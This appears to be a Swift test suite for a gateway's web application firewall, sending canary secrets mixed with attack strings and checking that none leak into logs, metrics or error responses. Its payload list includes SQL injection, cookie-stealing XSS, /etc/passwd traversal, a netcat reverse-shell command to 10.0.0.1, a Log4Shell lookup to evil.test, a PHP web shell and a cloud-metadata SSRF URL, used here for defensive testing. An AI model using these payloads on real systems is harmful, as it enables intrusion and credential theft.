// SPDX-License-Identifier: Apache-2.0

import Foundation
import GatewayTestKit
import Testing

/// Secrets in every place of requests that trip as many rules as possible reach none of the sinks.
@Suite(
    .serialized,
    .enabled(if: FileManager.default.fileExists(atPath: "/usr/share/modsecurity-crs/rules"))
)
struct SecretCanaryTests {
    // MARK: Canaries

    /// Values that must not be seen anywhere.
    private enum Canary {
        static let password = "Zebra!Quark7&violet"
        static let card = "4111111111111111"
        static let groupedCard = "5500 0055-5555 5559"
        static let bearer = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJlLWNhbmFyeS0xMjM0NTY3ODkw"
        static let cookie = "canaryCookie42"
        static let apiKey = "sk_live_canary51HabcDEF0123456789"
        static let cloudKey = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
        static let pin = "cvv9173pin"

        /// What would give one away: in lower case, since rules look at lower-cased values, too.
        static let traces = [
            "zebra", "quark7", "violet", card, "5500 0055", "55000055", "5555 5559", "55555559",
            "eyjhbgcioijiuzi1nij9", "eyjzdwiioijjyw5hcnkifq", "c2lnbmf0dxjllwnhbmfyes0xmjm0nty3odkw", "canarycookie42",
            "sk_live_canary51", "habcdef0123456789", "wjalrxutnfemi", "bpxrficyexamplekey", "cvv9173pin",
            // In base64, as an Authorization field has it.
            String(basic.prefix(12)).lowercased(),
        ]
        static var basic: String { Data("user:\(password)".utf8).base64EncodedString() }
    }

    /// Each trips rules by itself.
    private static let attacks = [
        "' or 1=1 union select password,1 from users-- ", "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd", "; cat /etc/passwd | nc -e /bin/sh 10.0.0.1 80", "${jndi:ldap://evil.test/a}",
        "{{7*7}}", "<?php system($_GET['c']); ?>", "http://169.254.169.254/latest/meta-data", "\r\nSet-Cookie: a=b",
    ]

    /// Fields by the names that shops give them, with what each holds.
    private static let fields: [(name: String, value: String)] = [
        ("password", Canary.password), ("new_password", Canary.password), ("card_number", Canary.card),
        ("card", Canary.groupedCard), ("access_token", Canary.bearer), ("api_key", Canary.apiKey),
        ("client_secret", Canary.cloudKey), ("pin", Canary.pin), ("session", Canary.cookie),
    ]

    private static func encoded(_ text: String) -> String {
        text.utf8.map { byte in
            switch byte {
            case 0x30...0x39, 0x41...0x5A, 0x61...0x7A: String(UnicodeScalar(byte))
            default: "%" + (byte < 16 ? "0" : "") + String(byte, radix: 16, uppercase: true)
            }
        }.joined()
    }

    private static func json(_ text: String) -> String {
        String(decoding: (try? JSONEncoder().encode(text)) ?? Data(), as: UTF8.self)
    }

    private static func xml(_ text: String) -> String {
        text.replacing("&", with: "&amp;").replacing("<", with: "&lt;")
    }

    // MARK: Requests

    /// - Parameter turn: a rule names the last of the values it matched, so each is to be the last some time.
    private static func requests(_ attack: String, turn: Int) -> [String] {
        let fields = Array(fields[turn...] + fields[..<turn])
        let pairs = fields.map { ($0.name, $0.value + attack) }
        let form = pairs.map { "\($0)=\(encoded($1))" }.joined(separator: "&")
        let document = "{" + pairs.map { "\"\($0)\":\(json($1))" }.joined(separator: ",") + "}"
        let nested = "{\"customer\":{\"payment\":[\(document)]},\"q\":\(json(attack))}"
        let elements = "<o>" + pairs.map { "<\($0)>\(xml($1))</\($0)>" }.joined() + "<q>\(xml(attack))</q></o>"
        let attributes =
            "<o " + pairs.map { "\($0)=\"\(xml($1).replacing("\"", with: "&quot;"))\"" }.joined(separator: " ") + "/>"
        let parts =
            pairs.map {
                "--B\r\nContent-Disposition: form-data; name=\"\($0)\"\r\n\r\n\($1)\r\n"
            }.joined() + "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"\(encoded(attack)).php\"\r\n"
            + "Content-Type: text/plain\r\n\r\n\(Canary.password)\r\n--B--\r\n"
        // Values that shops keep under names that say nothing.
        let unnamed = [Canary.card, Canary.groupedCard, Canary.bearer, Canary.apiKey, Canary.cloudKey]
            .enumerated().map { "x\($0)=\(encoded($1 + " " + attack))" }.joined(separator: "&")
        // What a person pastes into a search field, and a document sent as what it is not.
        let pasted = "q=" + encoded("password: \(Canary.password) \(attack)") + "&r=" + encoded(document)
        let header = attack.filter { $0.isASCII && !$0.isNewline }
        let cookies =
            "Cookie: card=\(Canary.card)\(encoded(attack)); a=\(Canary.apiKey); session=\(Canary.cookie)\(encoded(attack))"
        let credentials = [
            "Authorization: Bearer \(Canary.bearer)\(header)", "X-Api-Key: \(Canary.apiKey)\(header)", cookies,
            "X-Note: Basic \(Canary.basic)\(header)", "X-Other: \(Canary.cloudKey) \(header)",
            "Referer: https://u:\(encoded(Canary.password))@shop.test/?code=\(Canary.pin)&q=\(encoded(attack))",
            "User-Agent: sqlmap \(Canary.bearer) \(Canary.groupedCard) \(header)",
        ]
        let urlencoded = "application/x-www-form-urlencoded"
        return [
            FirewallRequest.get("/search?\(form)"),
            FirewallRequest.get("/search?q=\(encoded(attack))", credentials),
            FirewallRequest.get("/search?q=\(encoded(attack))", ["Authorization: Basic \(Canary.basic)"]),
            FirewallRequest.get("/cards/\(Canary.card);token=\(Canary.pin)/x?q=\(encoded(attack))"),
            FirewallRequest.post(form, type: urlencoded),
            FirewallRequest.post(unnamed, type: urlencoded),
            FirewallRequest.post(pasted, type: urlencoded),
            FirewallRequest.post(document, type: urlencoded),
            FirewallRequest.post(document, type: "application/json"),
            FirewallRequest.post(nested, type: "application/json"),
            FirewallRequest.post(document + "{", type: "application/json"),
            FirewallRequest.post(document, type: "text/plain"),
            FirewallRequest.post(elements, type: "application/xml"),
            FirewallRequest.post(attributes, type: "text/xml"),
            FirewallRequest.post(parts, type: "multipart/form-data; boundary=B"),
            FirewallRequest.post(String(parts.dropLast(9)), type: "multipart/form-data; boundary=B"),
            "MOVE /search?\(form) HTTP/1.1\r\nHost: shop.test\r\nX_Secret: \(Canary.password)\r\n\r\n",
            "GET /search?\(form) HTTP/1.1\r\nHost: shop.test\r\nX_Api_Key: \(Canary.apiKey)\r\n\r\n",
        ]
    }

    /// Sends everything, each request on a connection of its own, and returns what came back.
    private func sendAll(_ gateway: TestGateway) async throws -> (answers: [RawResponse], count: Int) {
        var answers: [RawResponse] = []
        for (turn, attack) in Self.attacks.enumerated() {
            for request in Self.requests(attack, turn: turn) { answers.append(try await gateway.send(request)) }
        }
        return (answers, answers.count)
    }

    private func traces(in text: String) -> [String] {
        let text = text.lowercased()
        return Canary.traces.filter { text.contains($0) }
    }

    @Test(arguments: ["monitor", "block"], ["json", "text"])
    func noSecretReachesASink(_ mode: String, _ format: String) async throws {
        let leak = "HTTP/1.1 200 X\r\nContent-Type: text/html\r\nSet-Cookie: session=\(Canary.cookie)\r\n"
        let page = "<p>ORA-00933: \(Canary.password) \(Canary.card) mysql_fetch_array() warning</p>"
        let upstream = try await TestUpstream.start { _ in
            .raw(leak + "Content-Length: \(page.utf8.count)\r\n\r\n" + page)
        }
        let yaml = """
            listeners: [{ name: public, address: "127.0.0.1:0" }]
            upstreams: { shop: { targets: ["${SHOP}"] } }
            routes: [{ name: all, match: { path: "/**" }, upstream: shop }]
            waf: { mode: \(mode), rules: [/usr/share/modsecurity-crs], paranoia: 4, inspect_responses: true }
            logs: { access: { format: \(format) } }
            """
        try await TestGateway.withGateway(yaml, upstreams: ["SHOP": upstream]) { gateway in
            let (answers, count) = try await sendAll(gateway)
            let log = try await gateway.accessText(count: count)
            for line in log.split(separator: "\n") {
                let found = traces(in: String(line))
                #expect(found.isEmpty, "\(found) in \(line)")
            }
            #expect(traces(in: gateway.metrics).isEmpty)
            #expect(traces(in: gateway.errorLog.joined(separator: "\n")).isEmpty)
            let problems = answers.filter { $0["content-type"] == "application/problem+json" }
            #expect(mode == "monitor" || problems.count > answers.count / 2)
            for problem in problems {
                let found = traces(in: problem.text)
                #expect(found.isEmpty, "\(found) in \(problem.text)")
            }
            // It was no quiet walk: rules matched in all the places where canaries were.
            guard format == "json" else { return }
            let findings = try await gateway.accessLog(count: count).flatMap(\.findings).filter {
                $0.check.hasPrefix("waf.")
            }
            #expect(findings.count > 1_000, "\(findings.count)")
            let variables = Set(findings.compactMap(\.variable))
            for variable in [
                "ARGS:card_number", "ARGS:access_token",
                "REQUEST_COOKIES:session", "REQUEST_HEADERS:User-Agent", "REQUEST_HEADERS:Referer",
            ] {
                #expect(variables.contains(variable), "\(variable)")
            }
            #expect(variables.contains { $0.hasPrefix("XML") })
            #expect(Set(findings.map(\.check)).isSuperset(of: ["waf.crs", "waf.commerce", "waf.body"]))
        }
        await upstream.stop()
    }
}
